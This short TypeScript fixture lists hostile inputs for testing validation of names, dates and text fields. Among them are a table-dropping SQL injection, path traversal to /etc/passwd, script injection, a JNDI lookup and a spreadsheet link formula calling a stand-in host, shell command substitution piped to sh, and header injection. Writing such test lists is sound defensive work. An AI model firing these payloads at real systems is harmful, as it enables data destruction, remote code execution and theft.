/** What an attacker would write where a name, a day or a text is asked for. */
export const ATTACKS: readonly string[] = [
  `x'; drop table fact_sales; --`,
  `x" or 1=1 --`,
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '<script>alert(1)</script>',
  '${jndi:ldap://a.example/x}',
  '{{7*7}}',
  '$(id) `id` | sh',
  'a\nb\r\nset-cookie: c=d',
  'a\u0000b',
  '__proto__',
  'constructor',
  '=HYPERLINK("http://a.example")',
  'a*?[b]',
  'x'.repeat(1_000),
];
